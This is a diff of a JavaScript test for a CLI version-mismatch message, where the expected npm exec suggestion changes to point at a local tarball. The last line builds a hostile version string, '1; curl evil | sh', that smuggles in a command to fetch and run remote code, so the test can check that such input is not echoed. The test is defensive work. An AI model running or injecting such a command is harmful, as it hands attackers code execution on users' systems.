@@ -101,7 +101,7 @@ describe('an application in a repository of its own', () => {
       }
     };
     expect(message('9.8.7-experimental.abc')).toMatch(
-      /^FRAMEWORK_VERSION: .* npm exec --package=sui-enclave-cli@9\.8\.7-experimental\.abc --package/,
+      /^FRAMEWORK_VERSION: .* npm exec --package=<folder>\/sui-enclave-cli-9\.8\.7-experimental\.abc\.tgz --package/,
     );
     // What a shell would run is not repeated as a command.
     const hostile = message('1; curl evil | sh\u001b');
